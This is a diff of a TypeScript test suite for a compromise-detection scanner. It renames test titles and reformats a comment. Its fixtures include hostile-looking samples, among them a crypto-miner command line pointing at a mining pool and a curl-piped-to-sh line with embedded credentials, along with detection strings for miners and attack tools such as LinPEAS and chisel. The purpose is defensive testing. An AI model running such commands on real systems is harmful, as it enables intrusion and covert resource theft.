@@ -11,10 +11,10 @@ function signsOf(path: string, text: string | Buffer, mode = 0o644) {
 const named = (path: string, text: string | Buffer) => signsOf(path, text).map(({ sign }) => sign);
 
 const wallet = `4${'A'.repeat(94)}`;
-/** Its fingerprint is what `ssh-keygen -lf` says. */
+/** Its fingerprint is the output of `ssh-keygen -lf`. */
 const key = `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${'A'.repeat(43)} somebody`;
 
-describe('inspect file', () => {
+describe('inspectFile', () => {
   it.each<[path: string, text: string, signs: string[]]>([
     ['etc/passwd', 'root:x:0:0::/root:/bin/sh\nsys:x:0:0::/:/bin/sh\n', ['root-account']],
     ['etc/passwd', 'root:x:0:0::/root:/bin/sh\nroot:x:00:0::/:/bin/sh\n', ['root-account']],
@@ -51,7 +51,7 @@ describe('inspect file', () => {
     ['app/start', '#!/bin/sh\n./nginx-helper -o pool.supportxmr.com:443 --donate-level 1\n', ['miner']],
     ['usr/bin/linpeas.sh', '#!/bin/sh\n# LinPEAS-ng\n', ['attack-tool']],
     ['var/lib/dpkg/diversions', '/bin/sh\n/bin/sh.distrib\ndash\n', ['diversions']],
-  ])('%s with %j has the signs %j', (path, text, signs) => {
+  ])('finds in %s with %j the signs %j', (path, text, signs) => {
     expect(named(path, text)).toEqual(signs);
   });
 
@@ -71,18 +71,18 @@ describe('inspect file', () => {
     ['opt/decode', '#!/bin/sh\nbase64 -d < key.b64 > key\n'],
     ['app/config.json', '{"name":"app","pool":{"max":5},"algorithm":"aes"}'],
     ['srv/notes.md', 'stratum+tcp://pool.example:3333 xmrig'],
-  ])('%s with %j has none', (path, text) => {
+  ])('finds nothing in %s with %j', (path, text) => {
     expect(named(path, text)).toEqual([]);
   });
 
-  it('is sure of a miner only when several things say so', () => {
+  it('is certain of a miner only with several indicators', () => {
     const confidence = (text: string) => signsOf('app/x', `#!/bin/sh\n${text}`).map((sign) => sign.confidence);
     expect(confidence('modprobe msr\n')).toEqual(['possible']);
     expect(confidence(`stratum+tcp://pool.example:3333\n${wallet}\n`)).toEqual(['likely']);
     expect(confidence(`stratum+tcp://pool.supportxmr.com:3333 --donate-level 1\n${wallet}\n`)).toEqual(['certain']);
   });
 
-  it('tells of keys by fingerprint and never what a line holds', () => {
+  it('reports fingerprints of keys and never the content of a line', () => {
     const signs = JSON.stringify([
       ...signsOf('root/.ssh/authorized_keys', key),
       ...signsOf('opt/x', '#!/bin/sh\ncurl -u me:hunter2 "http://me:hunter2@example.com/hunter2?hunter2" | sh\n'),
@@ -93,7 +93,10 @@ describe('inspect file', () => {
     expect(signs).not.toMatch(/hunter2|AAAA|somebody/);
   });
 
-  /** A program of 64 bits with one loaded segment over the whole file, and one section of constants where told. */
+  /**
+   * Program of 64 bits with one loaded segment over the whole file, and optionally a section of
+   * constants.
+   */
   function elf(code: Buffer, flags = 5, constants = Buffer.alloc(0)): Buffer {
     const header = Buffer.alloc(64 + 56);
     header.write('\x7fELF\x02\x01\x01', 'latin1');
@@ -127,18 +130,18 @@ describe('inspect file', () => {
     ['miner by its constants', elf(plainCode, 5, Buffer.from('\0stratum+tcp://%s\0--donate-level\0')), ['miner']],
     ['chisel by its constants', elf(plainCode, 5, Buffer.from('\0chisel-v3\0')), ['attack-tool']],
     ['something else by its constants', elf(plainCode, 5, Buffer.from('\0stratum: 3\0pspython\0')), []],
-  ])('reads programs: %s', (_, program, signs) => {
+  ])('inspects programs: %s', (_, program, signs) => {
     expect(named('usr/bin/nginx-helper', program)).toEqual(signs);
   });
 
-  it('looks at libraries only where no package should have any', () => {
+  it('inspects libraries only outside of package directories', () => {
     const library = elf(plainCode).subarray(0, 512);
     expect(wantsInspection('usr/lib/x86_64-linux-gnu/libc.so.6', library)).toBe(false);
     expect(wantsInspection('app/node_modules/a/b.so', library)).toBe(false);
     expect(wantsInspection('tmp/.x/a.so', library)).toBe(true);
   });
 
-  it('never throws, whatever is broken', () => {
+  it('accepts any broken file', () => {
     const program = elf(plainCode.subarray(0, 300), 7, Buffer.from('stratum+tcp://x'));
     for (let length = 0; length < program.length; length += 1) named('bin/x', program.subarray(0, length));
     for (let at = 0; at < 200; at += 1) {
@@ -171,7 +174,7 @@ describe('inspect file', () => {
     'pkill ',
     ':0:',
     'ssh-rsa ',
-  ])('comes to an end with a megabyte of %j', (part) => {
+  ])('ends for a megabyte of %j', (part) => {
     const text = part.repeat(Math.ceil((1 << 20) / part.length));
     for (const path of ['etc/cron.d/x', 'etc/passwd', 'etc/sudoers', 'root/.ssh/authorized_keys']) {
       expect(named(path, text).length).toBeLessThan(100);
